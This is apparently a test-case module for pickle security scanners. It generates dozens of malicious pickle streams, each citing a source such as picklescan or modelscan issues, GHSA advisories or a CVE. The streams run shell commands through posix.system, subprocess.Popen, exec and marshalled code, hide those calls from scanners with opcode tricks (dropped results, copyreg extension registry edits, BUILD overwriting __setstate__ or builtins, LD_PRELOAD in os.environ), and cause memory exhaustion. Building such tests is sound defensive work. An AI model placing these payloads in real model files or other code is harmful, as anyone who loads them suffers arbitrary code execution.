"""Ways to make a call other than GLOBAL and REDUCE, and ways to hide that one was made."""

import struct

from ..assemble.payload import COMMAND, MARSHALLED, PYTHON
from ..assemble.pickles import EVIL, ORDERED, SYSTEM, Code, arguments, built, call, dropped, found, new, persistent, stacked, stream, unicode, value
from ..case import malformed, malicious

NAMESPACE = call(found("argparse", "Namespace"))
POPEN = found("subprocess", "Popen")
SHELL = ["sh", "-c", COMMAND]
ONE = arguments(COMMAND)


@malicious(".pkl")
def inst():
    """INST names the function in the opcode. [picklescan #21]"""
    return f"(S'{COMMAND}'\niposix\nsystem\n.".encode()


@malicious(".pkl")
def inst_without_arguments():
    """INST of a class without arguments. [own]"""
    return b"(iidlelib.run\nExecutive\n."


@malicious(".pkl")
def obj():
    """OBJ takes the function from the stack. [own]"""
    return stream(b"(" + SYSTEM + unicode(COMMAND) + b"o")


@malicious(".pkl")
def obj_popped():
    """The result of OBJ is dropped, so that a decompiler loses the call. [GHSA-mxhj-88fx-4pcv]"""
    return stream(b"(" + SYSTEM + unicode(COMMAND) + b"o0N")


@malicious(".pkl")
def newobj():
    """NEWOBJ of a class whose __new__ or __init__ acts. [own]"""
    return stream(new(found("pathlib", "Path"), COMMAND) + b"0" + new(POPEN, SHELL))


@malicious(".pkl")
def newobj_function():
    """NEWOBJ makes a function of marshalled code, REDUCE calls it. [own]"""
    code = call(found("marshal", "loads"), MARSHALLED)
    return stream(call(new(found("types", "FunctionType"), code, {"__builtins__": call(found("builtins", "__import__"), "builtins")})), 3)


@malicious(".pkl")
def newobj_ex():
    """NEWOBJ_EX with keyword arguments. [own]"""
    return stream(stacked("socket", "socket") + b")" + value({"family": 2}) + b"\x92", 4)


@malicious(".pkl")
def newobj_ex_unknown():
    """NEWOBJ_EX of a class nobody knows. [own]"""
    return stream(stacked("unknown_package", "Model") + b")}\x92", 4)


@malicious(".pkl")
def reduce_then_build():
    """BUILD behind a call makes its result look used. [GHSA-mhc9-48gj-9gp3]"""
    return stream(built(EVIL, {}))


@malicious(".pkl")
def build_setstate():
    """BUILD puts __setstate__ into an instance, the next BUILD calls it. [own]"""
    return stream(built(built(NAMESPACE, {"__setstate__": SYSTEM}), COMMAND))


@malicious(".pkl")
def build_setstate_of_class():
    """The slots part of BUILD sets __setstate__ of a whole class. [own]"""
    patched = built(found("argparse", "Namespace"), (None, {"__setstate__": SYSTEM}))
    return stream(dropped(patched) + built(NAMESPACE, COMMAND))


@malicious(".pkl")
def build_function_defaults():
    """BUILD replaces the defaults of a library's function. [modelscan #330]"""
    return stream(built(found("shutil", "which"), (None, {"__defaults__": (1, COMMAND)})))


@malicious(".pkl")
def build_builtins():
    """BUILD writes into the __builtins__ of an allowed module. [modelscan #330]"""
    return stream(built(stacked("numpy", "__builtins__"), {"print": SYSTEM}), 4)


@malicious(".pkl")
def build_module():
    """BUILD on a module replaces a function in it. [own]"""
    return stream(built(call(found("builtins", "__import__"), "json"), {"loads": SYSTEM}))


@malicious(".pkl")
def build_allowed_class():
    """BUILD on an allowed class itself, not on an instance. [own]"""
    return stream(built(found("collections", "OrderedDict"), (None, {"get": SYSTEM})))


@malicious(".pkl")
def append_method():
    """APPEND calls an append that BUILD put there. [own]"""
    return stream(built(NAMESPACE, {"append": SYSTEM}) + unicode(COMMAND) + b"a")


@malicious(".pkl")
def extend_method():
    """APPENDS calls an extend that BUILD put there. [own]"""
    return stream(built(NAMESPACE, {"extend": call(found("functools", "partial"), found("os", "execvp"), "sh")}) + b"(" + unicode("sh") + unicode("-c") + unicode(COMMAND) + b"e")


@malicious(".pkl")
def add_method():
    """ADDITEMS calls an add that BUILD put there. [own]"""
    return stream(built(NAMESPACE, {"add": SYSTEM}) + b"(" + unicode(COMMAND) + b"\x90", 4)


@malicious(".pkl")
def append_to_result():
    """APPEND to what a call returned. [own]"""
    return stream(call(found("subprocess", "getstatusoutput"), COMMAND) + b"0" + call(found("site", "_init_pathinfo")) + b"0" + stacked("sys", "path") + unicode(".") + b"a", 4)


@malicious(".pkl")
def setitem_of_modules():
    """SETITEM on sys.modules puts another module under a known name. [own]"""
    return stream(found("sys", "modules") + unicode("json") + found("os", "path") + b"s")


@malicious(".pkl")
def setitems_of_environment():
    """SETITEMS on os.environ. [own]"""
    return stream(found("os", "environ") + b"(" + unicode("LD_PRELOAD") + unicode("") + b"u")


@malicious(".pkl")
def setitem_of_path_hooks():
    """APPEND to sys.path makes a folder importable. [own]"""
    return stream(found("sys", "path") + unicode("/tmp/no-such-folder") + b"a")


@malicious(".pkl")
def result_popped():
    """The call's result is dropped, an honest value is returned. [own]"""
    return stream(dropped(EVIL) + ORDERED)


@malicious(".pkl")
def result_popped_with_mark():
    """The call's result goes with POP_MARK. [own]"""
    return stream(b"(" + EVIL + b"1" + ORDERED)


@malicious(".pkl")
def result_as_key():
    """The call's result is a dictionary's key. [own]"""
    return stream(b"}" + EVIL + unicode("value") + b"s")


@malicious(".pkl")
def callable_duplicated():
    """DUP copies the function, the copy is called. [own]"""
    return stream(SYSTEM + b"2" + ONE + b"R0")


@malicious(".pkl")
def arguments_before_callable():
    """The arguments stand in the memo before the function is named. [own]"""
    return stream(Code(ONE + b"q\x010" + SYSTEM + b"h\x01R"))


@malicious(".pkl")
def arguments_as_list():
    """REDUCE with a list where a tuple belongs: the pure Python loader takes it. [own]"""
    return stream(SYSTEM + b"](" + unicode(COMMAND) + b"eR")


@malicious(".pkl")
def only_named():
    """posix.system is named and not called. [own]"""
    return stream(SYSTEM)


@malicious(".pkl")
def only_named_in_list():
    """posix.system stands in a list that another program may call. [own]"""
    return stream(b"]" + SYSTEM + b"a")


@malicious(".pkl")
def only_imported():
    """GLOBAL of a module whose import acts. [own]"""
    return stream(dropped(found("antigravity", "fly")) + b"N")


@malicious(".pkl")
def imported_by_failing_name():
    """GLOBAL of a name that is not there: the module is imported all the same. [own]"""
    return stream(found("this", "no_such_name"))


@malicious(".pkl")
def extension_registered():
    """copyreg.add_extension, then EXT1. [arXiv 2508.19774]"""
    return stream(dropped(call(found("copyreg", "add_extension"), "posix", "system", 1)) + b"\x82\x01" + ONE + b"R")


@malicious(".pkl")
def extension_registry_written():
    """SETITEM on the extension registry, then EXT1. [own]"""
    return stream(found("copyreg", "_inverted_registry") + value(1) + arguments("posix", "system") + b"s0\x82\x01" + ONE + b"R")


@malicious(".pkl")
def extension_cached():
    """SETITEM on the extension cache, then EXT2. [own]"""
    return stream(found("copyreg", "_extension_cache") + value(258) + SYSTEM + b"s0\x83\x02\x01" + ONE + b"R")


@malicious(".pkl")
def extension_unregistered():
    """EXT4 of a code that only the victim's program may know, called. [own]"""
    return stream(b"\x84\x34\x12\0\0" + ONE + b"R")


@malicious(".pkl")
def dispatch_table():
    """SETITEM on copyreg.dispatch_table changes how the next pickle is written. [own]"""
    return stream(found("copyreg", "dispatch_table") + found("builtins", "int") + SYSTEM + b"s")


@malicious(".pkl")
def copyreg_pickle():
    """copyreg.pickle registers a reducer. [own]"""
    return stream(call(found("copyreg", "pickle"), found("builtins", "int"), SYSTEM))


@malicious(".pkl")
def copyreg_reconstructor():
    """copyreg._reconstructor with a base that is not object. [own]"""
    return stream(call(found("copyreg", "_reconstructor"), found("subprocess", "Popen"), found("builtins", "dict"), SHELL))


@malicious(".pkl")
def copyreg_newobj():
    """copyreg.__newobj__ as a function. [own]"""
    return stream(call(found("copyreg", "__newobj__"), found("types", "FunctionType"), call(found("marshal", "loads"), MARSHALLED), {}), 3)


@malicious(".pkl")
def persistent_text_then_call():
    """A persistent id as text, then a call. [own]"""
    return f"Pthe-id\n0cposix\nsystem\n(S'{COMMAND}'\ntR.".encode()


@malicious(".pkl")
def persistent_carries_call():
    """A persistent id whose tuple holds a call's result. [own]"""
    return stream(persistent(("storage", EVIL, "0", "cpu", 1)))


@malicious(".pkl")
def persistent_called():
    """REDUCE of what the persistent loader returns. [own]"""
    return stream(Code(persistent("function") + ONE + b"R"))


@malicious(".pkl")
def buffer_then_call():
    """A call before NEXT_BUFFER, which fails without buffers. [own]"""
    return stream(dropped(EVIL) + b"\x97", 5)


@malicious(".pkl")
def readonly_buffer_of_call():
    """READONLY_BUFFER over a call's result. [own]"""
    return stream(EVIL + b"\x98", 5)


@malicious(".pkl")
def call_in_frozenset():
    """The call stands among the items of FROZENSET. [own]"""
    return stream(b"(" + EVIL + b"\x91", 4)


@malicious(".pkl")
def call_in_dict():
    """The call stands among the items of DICT. [own]"""
    return stream(b"(" + unicode("key") + EVIL + b"d")


@malicious(".pkl")
def call_in_list():
    """The call stands among the items of LIST. [own]"""
    return stream(b"(" + EVIL + b"l")


@malicious(".pkl")
def call_in_tuple():
    """The call stands among four items of TUPLE. [own]"""
    return stream(b"(" + b"N" * 3 + EVIL + b"t")


@malicious(".pkl")
def marks_left_open():
    """200 marks stay open around the call. [own]"""
    return stream(b"(" * 200 + EVIL)


@malicious(".pkl")
def mark_before_callable():
    """A mark opened before the function is closed by its arguments. [own]"""
    return stream(b"(" + SYSTEM + b"(" + unicode(COMMAND) + b"tRt")


@malicious(".pkl")
def protocol_changes_midway():
    """A second PROTO in the middle makes names dotted. [own]"""
    return b"\x80\x02N0\x80\x04" + call(stacked("random", "_os.system"), COMMAND) + b"."


@malicious(".pkl")
def framed_opcodes_without_protocol():
    """STACK_GLOBAL and FRAME without PROTO. [own]"""
    body = call(stacked("posix", "system"), COMMAND) + b"."
    return b"\x95" + struct.pack("<Q", len(body)) + body


@malicious(".pkl")
def list_expansion():
    """BUILD of a list's contents by repeated extension: memory grows without a long stream. [model-files note, section 4]"""
    return stream(Code(b"](" + unicode("x" * 64) + b"e" + b"q\x00" + dropped(call(found("operator", "imul"), Code(b"h\x00"), 1 << 16)) * 3))


@malicious(".pkl")
def exec_with_own_globals():
    """builtins.exec with a dictionary of its own. [own]"""
    return stream(call(stacked("builtins", "exec"), PYTHON, {}), 4)


@malicious(".pkl")
def tuple_of_twenty_calls():
    """Twenty honest calls, and the twenty-first is not. [own]"""
    return stream(b"(" + bytes(ORDERED) * 20 + EVIL + b"t")


@malicious(".pkl")
def call_deep_inside():
    """The call stands 300 lists deep. [own]"""
    return stream(b"]" * 300 + EVIL + b"a" * 300)


@malformed(".pkl")
def setitem_of_list():
    """SETITEM with a key on a list that is too short. [CVE-2026-24747]"""
    return stream(b"]K\x00K\x01s")


@malformed(".pkl")
def setitem_of_integer():
    """SETITEM on a number. [CVE-2026-24747]"""
    return stream(b"K\x01K\x00K\x01s")


@malformed(".pkl")
def reduce_of_integer():
    """REDUCE of a number. [own]"""
    return stream(b"K\x01)R")


@malformed(".pkl")
def extension_zero():
    """EXT4 with code 0. [own]"""
    return stream(b"\x84\0\0\0\0")


@malformed(".pkl")
def obj_empty():
    """OBJ with nothing behind its mark. [own]"""
    return stream(b"(o")


@malformed(".pkl")
def stack_underflow():
    """TUPLE3 with two values. [own]"""
    return stream(b"NN\x87")
